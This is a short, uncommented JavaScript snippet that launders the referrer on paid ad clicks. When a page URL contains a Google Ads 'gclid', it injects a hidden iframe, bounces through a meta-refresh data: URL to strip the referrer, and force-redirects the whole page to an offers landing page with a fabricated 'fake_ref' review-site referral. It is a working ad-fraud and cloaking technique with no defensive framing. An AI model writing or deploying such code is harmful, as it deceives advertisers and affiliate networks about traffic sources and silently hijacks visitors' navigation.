function wash(target) {
  var f = document.createElement('iframe');
  f.style.cssText = 'width:0;height:0;border:0;visibility:hidden';
  f.referrerPolicy = 'no-referrer';
  document.body.appendChild(f);
  var inner = '<meta name="referrer" content="never"><meta http-equiv="refresh" content="0;url=' +
    'data:text/html,<script>top.location.replace(%22' + encodeURIComponent(target) + '%22)<\/script>">';
  var d = f.contentWindow.document;
  d.open(); d.write(inner); d.close();
}
if (/[?&]gclid=/.test(location.search)) {
  wash('https://offers.bestdeal-now.example/lp?cid=' + Date.now().toString(36) + '&fake_ref=' + encodeURIComponent('https://review-site.example/top10'));
}
